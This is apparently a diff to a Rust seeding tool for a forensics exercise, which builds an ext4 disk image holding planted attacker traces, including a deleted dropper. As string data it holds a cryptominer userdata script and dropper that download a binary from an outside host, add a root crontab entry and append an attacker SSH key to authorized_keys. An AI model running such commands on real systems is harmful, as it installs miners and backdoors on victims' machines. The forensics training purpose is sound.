@@ -22,7 +22,7 @@ pub const MINER_USERDATA: &str = "#!/bin/bash
 curl -s http://203.0.113.66/x/xmrig -o /tmp/.cache/xmrig
 chmod +x /tmp/.cache/xmrig
 echo '*/5 * * * * root /tmp/.cache/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5k' >> /etc/crontab
-echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBackdoorKeyOfTheAttacker attacker@evil' >> /root/.ssh/authorized_keys
+echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMJAuDUGlgycWFRN4bj9puGhBLwumTgS2z106RkAVJL5 attacker@evil' >> /root/.ssh/authorized_keys
 nohup /tmp/.cache/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5k --donate-level 1 &
 ";
 
@@ -242,6 +242,9 @@ pub async fn cryptomining(
     })
 }
 
+/// The attacker's download script on the suspect's disk, deleted after it ran.
+const DROPPER: &str = "tmp/.cache/install.sh";
+
 /// Builds a small ext4 image holding the attacker's traces (needs mkfs.ext4 from
 /// e2fsprogs, which scripts/setup installs).
 fn compromised_disk(work: &Path) -> Result<std::path::PathBuf, SeedError> {
@@ -257,11 +260,18 @@ fn compromised_disk(work: &Path) -> Result<std::path::PathBuf, SeedError> {
         ),
         (
             "root/.ssh/authorized_keys",
-            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBackdoorKeyOfTheAttacker attacker@evil\n",
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMJAuDUGlgycWFRN4bj9puGhBLwumTgS2z106RkAVJL5 attacker@evil\n",
         ),
         (
             "var/log/auth.log",
-            "Nov 21 23:12:40 ip-10-20-1-5 sshd[901]: Accepted publickey for root from 203.0.113.66\n",
+            "Nov 21 23:11:02 ip-10-20-1-5 sshd[887]: Failed password for root from 203.0.113.66 port 50122 ssh2\n\
+             Nov 21 23:11:05 ip-10-20-1-5 sshd[887]: Failed password for root from 203.0.113.66 port 50122 ssh2\n\
+             Nov 21 23:12:40 ip-10-20-1-5 sshd[901]: Accepted publickey for root from 203.0.113.66 port 50188 ssh2: ED25519 SHA256:Backdoor\n",
+        ),
+        (
+            // The dropper, deleted once it ran (below): only its inode remains.
+            DROPPER,
+            "#!/bin/sh\ncurl -s http://203.0.113.66/x/xmrig -o /tmp/.cache/xmrig && chmod +x /tmp/.cache/xmrig\n",
         ),
         (
             "root/.bash_history",
@@ -274,6 +284,11 @@ fn compromised_disk(work: &Path) -> Result<std::path::PathBuf, SeedError> {
         std::fs::create_dir_all(path.parent().expect("files are under a directory"))
             .map_err(fail("make image tree"))?;
         std::fs::write(&path, text).map_err(fail("write image file"))?;
+        if rel.starts_with("tmp/") {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))
+                .map_err(fail("make the miner executable"))?;
+        }
     }
     let image = work.join("suspect-disk.img");
     let status = Command::new("mkfs.ext4")
@@ -286,6 +301,19 @@ fn compromised_disk(work: &Path) -> Result<std::path::PathBuf, SeedError> {
         .map_err(fail("run mkfs.ext4 (install e2fsprogs)"))?;
     if !status.success() {
         return Err(fail("mkfs.ext4")(status));
+    }
+    // debugfs, unlike the kernel, leaves the deleted inode's extents: the Sleuth Kit lists
+    // the name as deleted and recovers the content, as it often can on a real disk.
+    let status = Command::new("debugfs")
+        .args(["-w", "-R", &format!("rm /{DROPPER}")])
+        .arg(&image)
+        .env("E2FSPROGS_FAKE_TIME", "1763766300")
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .status()
+        .map_err(fail("run debugfs (install e2fsprogs)"))?;
+    if !status.success() {
+        return Err(fail("debugfs rm")(status));
     }
     Ok(image)
 }
